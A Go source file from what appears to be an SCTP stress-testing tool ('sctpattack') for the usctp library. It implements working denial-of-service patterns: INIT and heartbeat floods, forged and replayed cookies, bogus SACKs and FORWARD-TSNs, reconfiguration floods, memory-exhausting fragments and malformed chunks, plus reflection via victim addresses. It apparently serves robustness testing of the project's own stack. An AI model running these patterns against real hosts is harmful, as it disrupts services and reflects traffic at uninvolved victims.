package main

import (
	"context"
	"fmt"
	"slices"
	"strings"

	"github.com/usctp/usctp/sctp/chunk"
)

// A pattern is one way of attacking: it runs until ctx is done, sending
// through p at most one packet per tick (tick nil: as fast as it can).
type pattern struct {
	name string
	doc  string
	run  func(ctx context.Context, p *peer, pace func() bool) error
}

// patterns are every attack sctpattack knows, in the order "all" runs them.
var patterns = []pattern{
	{"pdstreams", "ordered first fragments (B bit, no E bit) spread over 65535 streams, past the partial delivery point", pdStreams},
	{"tinyfrags", "1-byte fragments of messages that never complete, filling the window", tinyFrags},
	{"initflood", "INITs, each with a new tag (the answer is an INIT ACK with a cookie)", initFlood},
	{"cookieforge", "COOKIE ECHOs with forged cookies", cookieForge},
	{"cookiereplay", "the COOKIE ECHO of a real handshake, again and again", cookieReplay},
	{"sack", "SACKs acknowledging what was never sent, with many gap blocks and duplicates", absurdSACK},
	{"fwdtsn", "FORWARD-TSNs far ahead, stale, and naming many streams", fwdTSNFlood},
	{"reconf", "RE-CONFIG stream reset and add-stream requests", reconfFlood},
	{"heartbeat", "HEARTBEATs carrying 1000 bytes of information", heartbeatFlood},
	{"malformed", "malformed chunks: bad lengths, truncation, unknown types, bad checksums", malformed},
	{"initaddrs", "an INIT listing 100 addresses, 31 of them victims that never answer (reflection; a target on 127.0.0.1 with -multihome)", initAddrs},
	{"asconfaddrs", "ASCONFs adding 31 victim addresses, again every minute (reflection; a target on 127.0.0.1 with -dynamic-addrs)", asconfAddrs},
}

// reflection reports whether the pattern measures what victim addresses
// got (reflect.go) rather than flooding the target.
func (p pattern) reflection() bool { return p.name == "initaddrs" || p.name == "asconfaddrs" }

// patternNames returns the names of every pattern.
func patternNames() string {
	var s []string
	for _, p := range patterns {
		s = append(s, p.name)
	}
	return strings.Join(s, ",")
}

// lookup returns the patterns named in list ("all": every one).
func lookup(list string) ([]pattern, error) {
	if list == "all" {
		return patterns, nil
	}
	var out []pattern
	for _, name := range strings.Split(list, ",") {
		i := slices.IndexFunc(patterns, func(p pattern) bool { return p.name == name })
		if i < 0 {
			return nil, fmt.Errorf("unknown pattern %q (know %s)", name, patternNames())
		}
		out = append(out, patterns[i])
	}
	return out, nil
}

// room is the packet size the patterns fill (an MTU of 1500 over UDP/IPv4).
const room = 1500 - 20 - 8

func pdStreams(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(65535); err != nil {
		return err
	}
	defer p.abort()
	payload := make([]byte, 32)
	sid, ssn := uint16(0), uint16(0)
	for pace() {
		b := p.header(p.peerTag)
		for len(b)+chunk.DataHeaderLen+len(payload) <= room {
			b = p.data(b, sid, ssn, chunk.FlagBeginning, payload)
			if sid++; sid == p.streams {
				sid, ssn = 0, ssn+1
			}
		}
		if err := p.send(b); err != nil {
			return err
		}
		p.drain()
	}
	return nil
}

func tinyFrags(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(16); err != nil {
		return err
	}
	defer p.abort()
	one := []byte{1}
	ssn := uint16(1) // SSN 0 never comes: nothing is ever deliverable
	for pace() {
		b := p.header(p.peerTag)
		for len(b)+chunk.DataHeaderLen+4 <= room {
			b = p.data(b, ssn%16, ssn, chunk.FlagBeginning, one)
			if ssn++; ssn == 0 {
				ssn = 1
			}
		}
		if err := p.send(b); err != nil {
			return err
		}
		p.drain()
	}
	return nil
}

func initFlood(ctx context.Context, p *peer, pace func() bool) error {
	for pace() {
		p.myTag = p.rng.Uint32() | 1
		if err := p.send(p.appendInit(p.header(0), 10, nil)); err != nil {
			return err
		}
		p.drain()
	}
	return nil
}

func cookieForge(ctx context.Context, p *peer, pace func() bool) error {
	cookie := make([]byte, 80)
	for pace() {
		for i := range cookie {
			cookie[i] = byte(p.rng.Uint32())
		}
		b, _ := chunk.AppendCookieEcho(p.header(p.rng.Uint32()), cookie[:8+p.rng.IntN(len(cookie)-8)])
		if err := p.send(b); err != nil {
			return err
		}
		p.drain()
	}
	return nil
}

func cookieReplay(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(10); err != nil {
		return err
	}
	defer p.abort()
	for pace() {
		b, _ := chunk.AppendCookieEcho(p.header(p.peerTag), p.cookie)
		if err := p.send(b); err != nil {
			return err
		}
		p.drain()
	}
	return nil
}

func absurdSACK(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(10); err != nil {
		return err
	}
	defer p.abort()
	gaps := make([]chunk.GapBlock, 100)
	dups := make([]chunk.TSN, 200)
	for pace() {
		cum := p.peerTSN - 1
		switch p.rng.IntN(3) {
		case 0:
			cum += chunk.TSN(p.rng.Uint32()) // far ahead, or behind
		case 1:
			for i := range gaps {
				s := uint16(p.rng.Uint32())
				gaps[i] = chunk.GapBlock{Start: s, End: s + uint16(p.rng.IntN(100))}
			}
		}
		for i := range dups {
			dups[i] = chunk.TSN(p.rng.Uint32())
		}
		b, _ := chunk.AppendSack(p.header(p.peerTag), cum, p.rng.Uint32(), gaps[:p.rng.IntN(len(gaps))], dups)
		if err := p.send(b); err != nil {
			return err
		}
		// SACKs of data never sent abort the association: come back.
		if err := p.again(p.drain(), 8, 10); err != nil {
			return err
		}
	}
	return nil
}

func fwdTSNFlood(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(65535); err != nil {
		return err
	}
	defer p.abort()
	entries := make([]chunk.StreamSSN, 300)
	payload := make([]byte, 8)
	for pace() {
		b := p.header(p.peerTag)
		// Something held on a few streams, then a FORWARD-TSN over it.
		for range 8 {
			b = p.data(b, uint16(p.rng.IntN(int(p.streams))), 1, chunk.FlagBeginning, payload)
		}
		cum := p.tsn - chunk.TSN(p.rng.IntN(16))
		if p.rng.IntN(4) == 0 {
			cum += chunk.TSN(p.rng.Uint32() >> 1) // absurdly far ahead: a protocol violation
		}
		for i := range entries {
			entries[i] = chunk.StreamSSN{SID: uint16(p.rng.IntN(int(p.streams))), SSN: uint16(p.rng.Uint32())}
		}
		b, _ = chunk.AppendForwardTSN(b, cum, entries[:p.rng.IntN(len(entries))])
		if err := p.send(b); err != nil {
			return err
		}
		if err := p.again(p.drain(), 64, 65535); err != nil {
			return err
		}
	}
	return nil
}

func reconfFlood(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(1000); err != nil {
		return err
	}
	defer p.abort()
	seq := uint32(p.rng.Uint32())
	for pace() {
		b := p.header(p.peerTag)
		b, c := chunk.BeginChunk(b, chunk.TypeReconfig, 0)
		if p.rng.IntN(2) == 0 {
			b, q := chunk.BeginParam(b, chunk.ParamOutgoingSSNReset)
			b = be32(be32(be32(b, seq), seq-1), uint32(p.tsn-1))
			for range p.rng.IntN(300) {
				b = append(b, byte(p.rng.Uint32()), byte(p.rng.Uint32()))
			}
			b, _ = chunk.EndParam(b, q)
			b, _ = chunk.EndChunk(b, c)
			if err := p.send(b); err != nil {
				return err
			}
		} else {
			b, q := chunk.BeginParam(b, chunk.ParamAddOutgoingStreams)
			b = be32(b, seq)
			b = append(b, byte(p.rng.Uint32()), byte(p.rng.Uint32()), 0, 0)
			b, _ = chunk.EndParam(b, q)
			b, _ = chunk.EndChunk(b, c)
			if err := p.send(b); err != nil {
				return err
			}
		}
		if p.rng.IntN(2) == 0 {
			seq++
		}
		if err := p.again(p.drain(), 256, 1000); err != nil {
			return err
		}
	}
	return nil
}

func heartbeatFlood(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(10); err != nil {
		return err
	}
	defer p.abort()
	info := make([]byte, 1000)
	for pace() {
		hb, _ := chunk.AppendParam(nil, chunk.ParamHeartbeatInfo, info)
		b, _ := chunk.AppendHeartbeat(p.header(p.peerTag), false, hb)
		if err := p.send(b); err != nil {
			return err
		}
		p.drain()
	}
	return nil
}

func malformed(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(10); err != nil {
		return err
	}
	defer p.abort()
	for pace() {
		b := p.header(p.peerTag)
		for range 1 + p.rng.IntN(4) {
			t := byte(p.rng.Uint32())
			if p.rng.IntN(2) == 0 {
				t = byte([]chunk.Type{chunk.TypeData, chunk.TypeSack, chunk.TypeInit, chunk.TypeReconfig, chunk.TypeForwardTSN,
					chunk.TypeHeartbeat, chunk.TypeASCONF, chunk.TypeAuth, chunk.TypeIData, chunk.TypeError}[p.rng.IntN(10)])
			}
			n := p.rng.IntN(64)
			length := uint16(4 + n)
			switch p.rng.IntN(4) {
			case 0:
				length = uint16(p.rng.Uint32()) // anything
			case 1:
				length = uint16(p.rng.IntN(4)) // shorter than a chunk header
			}
			b = append(b, t, byte(p.rng.Uint32()), byte(length>>8), byte(length))
			for range n {
				b = append(b, byte(p.rng.Uint32()))
			}
		}
		if p.rng.IntN(8) == 0 {
			b = b[:p.rng.IntN(len(b))] // truncated, even inside the common header
		}
		chunk.SetChecksum(b)
		if p.rng.IntN(8) == 0 && len(b) >= chunk.HeaderLen {
			b[8] ^= 1 // bad checksum
		}
		if err := p.sendRaw(b); err != nil {
			return err
		}
		if err := p.again(p.drain(), 32, 10); err != nil {
			return err
		}
	}
	return nil
}
